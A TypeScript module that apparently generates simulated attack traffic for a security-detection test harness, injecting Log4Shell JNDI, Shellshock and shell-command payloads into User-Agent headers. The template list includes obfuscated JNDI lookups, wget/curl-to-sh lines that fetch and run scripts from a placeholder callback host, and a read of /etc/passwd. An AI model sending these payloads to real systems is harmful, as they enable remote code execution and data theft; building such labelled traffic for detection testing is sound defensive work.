import { composeRequest } from "../composeRequest.js";
import type { AttackInjector } from "./attackInjector.js";
import { attackerIdentity } from "./attackerIdentity.js";
import { scaledCount, spreadTicks } from "./attackTiming.js";
import { GET_OPERATIONS } from "./getOperations.js";

/**
 * Remote-code-execution payloads in the User-Agent header: JNDI lookups (plain and obfuscated),
 * Shellshock function definitions and shell command substitution. `CALLBACK` is replaced by the
 * attacker's own address, where the payload would phone home.
 */
export const SUSPICIOUS_USER_AGENT_TEMPLATES = [
  "${jndi:ldap://CALLBACK:1389/Exploit}",
  "Mozilla/5.0 ${jndi:rmi://CALLBACK:1099/obj}",
  "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://CALLBACK/a}",
  "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://CALLBACK/x}",
  "() { :; }; /bin/bash -c 'wget http://CALLBACK/s.sh -O /tmp/s.sh; sh /tmp/s.sh'",
  "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id",
  "Mozilla/5.0 (X11; Linux x86_64) $(curl -s http://CALLBACK/p | sh)",
  "curl/8.4.0; wget http://CALLBACK/bot -O- | sh",
  "python-requests/2.31.0 `cat /etc/passwd`",
];

/** One fresh address calls ordinary endpoints with code-execution payloads as its User-Agent. */
export const injectSuspiciousUserAgent: AttackInjector = (context, window, sink) => {
  const random = window.random;
  const requests = scaledCount(12, context.scale, 1);
  const base = attackerIdentity(random, context.reference, "", `ua-attacker-${window.ordinal}`);
  spreadTicks(window, requests, 10).forEach((tick, index) => {
    const template = SUSPICIOUS_USER_AGENT_TEMPLATES[
      index % SUSPICIOUS_USER_AGENT_TEMPLATES.length
    ] as string;
    const client = { ...base, userAgent: template.replaceAll("CALLBACK", base.callerIp) };
    sink.add(
      composeRequest(context.composer, random, random.pick(GET_OPERATIONS), client, tick, "attack"),
    );
  });
  return {
    entity: { clientIp: base.callerIp },
    size: requests,
    sizeUnit: "requests",
    description: `One fresh address sends ${requests} calls whose User-Agent carries Log4Shell, Shellshock or shell-command payloads.`,
    relatedDetections: [],
  };
};
